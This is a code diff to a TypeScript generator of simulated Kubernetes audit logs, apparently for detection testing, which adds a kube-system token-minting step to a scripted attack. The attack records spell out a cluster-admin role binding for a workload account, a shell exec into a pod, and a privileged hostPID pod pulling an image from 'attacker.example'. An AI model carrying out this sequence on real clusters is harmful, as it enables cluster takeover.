@@ -167,7 +167,7 @@ function background(random: Random): Request {
   return { user, verb: 'get', resource: 'secrets', namespace: 'staging', name: 'web-app-config', agent, ips: ['198.51.100.7'] };
 }
 
-/** The attack, in order: enumeration, token theft, escalation, exec, namespace escape. */
+/** The attack, in order: enumeration, token theft, escalation, exec, a kube-system token minted, namespace escape. */
 function attack(random: Random): Request[] {
   const pod = 'web-app-6c9d7-x2x4k';
   const user = serviceAccount(random, 'production', 'web-app', pod);
@@ -189,6 +189,7 @@ function attack(random: Random): Request[] {
       requestObject: { kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'web-app-admin' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'web-app', namespace: 'production' }] },
     },
     { ...outside, verb: 'get', resource: 'pods', namespace: 'production', name: pod, subresource: 'exec', stage: 'ResponseStarted', query: '?command=sh&container=web&stdin=true&stdout=true&tty=true' },
+    { ...outside, verb: 'create', resource: 'serviceaccounts', namespace: 'kube-system', name: 'generic-garbage-collector', subresource: 'token', level: 'Metadata' },
     { ...outside, verb: 'create', resource: 'pods', namespace: 'kube-system', name: 'kube-proxy-debug', level: 'Request', requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'kube-proxy-debug', namespace: 'kube-system' }, spec: { hostPID: true, containers: [{ name: 'c', image: 'attacker.example/tools:1', securityContext: { privileged: true } }] } } },
   ];
 }
